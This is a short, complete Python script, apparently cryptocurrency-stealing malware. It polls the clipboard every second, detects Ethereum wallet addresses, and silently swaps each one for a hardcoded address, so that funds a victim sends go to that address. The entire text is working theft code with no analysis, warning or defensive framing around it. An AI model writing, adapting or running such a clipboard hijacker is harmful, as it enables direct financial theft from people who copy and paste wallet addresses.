import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match("^0x[a-fA-F0-9]{40}$", t): pyperclip.copy("0x52221c293a21D8CA7AFD01Ac6bFAC7175D590A84")
    time.sleep(1)
